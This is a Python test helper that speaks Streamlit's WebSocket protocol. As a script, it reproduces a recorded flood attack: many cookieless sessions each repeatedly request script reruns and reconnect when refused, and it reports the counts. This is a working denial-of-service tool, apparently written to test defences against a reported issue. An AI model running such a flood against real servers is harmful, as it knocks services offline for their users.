"""Clients that speak Streamlit's own WebSocket protocol (the protobufs that ship in the
package), for attack and load tests: many at once, no browser. Run as a program it is
the flood of issue 24: `python -m tests.streamlit_client URL CLIENTS PERIOD SECONDS`
opens CLIENTS cookieless pages that each ask for a rerun every PERIOD seconds (and open
again at once when refused or closed), and prints what it managed."""

from __future__ import annotations

import asyncio
import contextlib
import http.cookies
import sys
import time
import urllib.request
from dataclasses import dataclass

import websockets
from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit.proto.ClientState_pb2 import ClientState
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg

XSRF_COOKIE = "_streamlit_xsrf"


def stream_address(url: str) -> str:
    return url.replace("http://", "ws://", 1) + "/_stcore/stream"


def rerun_message(query: str = "") -> bytes:
    """What a page sends when it asks for a rerun (a widget changed, or a reload)."""
    state = ClientState(query_string=query, page_script_hash="")
    return BackMsg(rerun_script=state).SerializeToString()


def cookie_header(cookies: dict[str, str]) -> str:
    return "; ".join(f"{name}={value}" for name, value in cookies.items())


def browser_cookie(url: str) -> str:
    """A fresh browser's XSRF cookie value, as Streamlit hands it out to anyone."""
    with urllib.request.urlopen(f"{url}/_stcore/health", timeout=10) as reply:
        for header in reply.headers.get_all("Set-Cookie") or []:
            parsed = http.cookies.SimpleCookie(header)
            if XSRF_COOKIE in parsed:
                return parsed[XSRF_COOKIE].value
    raise AssertionError("Streamlit handed out no XSRF cookie")


async def open_session(
    url: str, cookies: dict[str, str] | None = None, query: str = ""
) -> tuple[websockets.ClientConnection, str]:
    """A page's connection, sending `cookies` as a browser does (its XSRF token as the
    second subprotocol, as Streamlit's page passes it), and its session id, which Streamlit
    sends once the first rerun (of the page at address `?query`) is asked for."""
    cookies = cookies or {}
    headers = {"Cookie": cookie_header(cookies)} if cookies else {}
    protocols = ["streamlit", *([cookies[XSRF_COOKIE]] if XSRF_COOKIE in cookies else [])]
    connection = await websockets.connect(
        stream_address(url),
        subprotocols=[websockets.Subprotocol(name) for name in protocols],
        origin=websockets.Origin(url),
        additional_headers=headers,
        open_timeout=10,
        max_size=None,
    )
    await connection.send(rerun_message(query))
    while True:
        message = ForwardMsg()
        message.ParseFromString(await asyncio.wait_for(connection.recv(), 30))
        if message.WhichOneof("type") == "new_session":
            return connection, message.new_session.initialize.session_id


@dataclass
class Tally:
    opened: int = 0
    refused: int = 0
    sent: int = 0


async def flooding_page(url: str, period: float, until: float, tally: Tally) -> None:
    """One cookieless page asking for a rerun every `period` seconds, never reading what
    comes back (as the attack did), opening again at once when refused or closed."""
    message = rerun_message()
    while time.monotonic() < until:
        try:
            async with websockets.connect(
                stream_address(url),
                subprotocols=[websockets.Subprotocol("streamlit")],
                origin=websockets.Origin(url),
                open_timeout=5,
                max_size=None,
            ) as connection:
                tally.opened += 1
                while time.monotonic() < until:
                    await connection.send(message)
                    tally.sent += 1
                    await asyncio.sleep(period)
        except (OSError, TimeoutError, websockets.exceptions.WebSocketException):
            tally.refused += 1
            await asyncio.sleep(period)


async def flood(url: str, clients: int, period: float, seconds: float) -> Tally:
    tally = Tally()
    until = time.monotonic() + seconds
    tasks = [asyncio.create_task(flooding_page(url, period, until, tally)) for _ in range(clients)]
    with contextlib.suppress(Exception):
        await asyncio.gather(*tasks)
    return tally


if __name__ == "__main__":
    address, count, pause, duration = sys.argv[1:5]
    result = asyncio.run(flood(address, int(count), float(pause), float(duration)))
    print(f"opened {result.opened} refused {result.refused} sent {result.sent}", flush=True)
